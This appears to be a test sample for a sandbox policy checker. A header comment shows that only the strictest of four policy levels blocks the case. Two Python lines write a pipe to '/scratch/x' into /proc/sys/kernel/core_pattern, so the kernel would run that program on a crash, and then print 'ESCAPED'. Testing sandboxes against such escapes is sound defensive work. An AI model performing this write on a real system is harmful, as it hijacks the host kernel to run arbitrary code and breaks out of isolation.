# maximum=denied! strict=failed! standard=failed! minimal=failed!; UnauthorizedFileAccess High write "/proc/sys/kernel/core_pattern"; has the kernel run a program on a crash
open("/proc/sys/kernel/core_pattern", "w").write("|/scratch/x")
print("ESCAPED")
